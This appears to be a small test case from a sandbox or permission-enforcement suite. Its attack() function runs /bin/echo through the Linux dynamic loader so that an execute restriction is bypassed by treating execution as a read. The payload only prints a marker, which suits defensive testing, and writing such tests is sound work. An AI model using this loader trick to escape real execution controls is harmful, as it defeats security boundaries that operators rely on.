# Executes through the dynamic loader, which counts as reading.
# proof: stdout
import glob
import os


def attack(arg):
    loader = glob.glob("/lib64/ld-linux*") + glob.glob("/lib/ld-linux*")
    os.execv(loader[0], ["ld", "/bin/echo", "executed", arg["marker"]])
